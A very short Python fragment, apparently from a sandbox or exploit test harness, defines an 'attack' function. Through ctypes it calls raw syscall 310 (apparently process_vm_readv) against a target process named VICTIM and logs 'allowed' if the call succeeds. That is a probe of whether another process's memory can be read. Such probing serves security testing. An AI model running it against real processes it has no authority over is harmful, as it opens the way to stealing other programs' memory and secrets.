@at_once
def attack():
    if ctypes.CDLL(None).syscall(310, VICTIM, None, 0, None, 0, 0) == 0:
        loot('allowed')
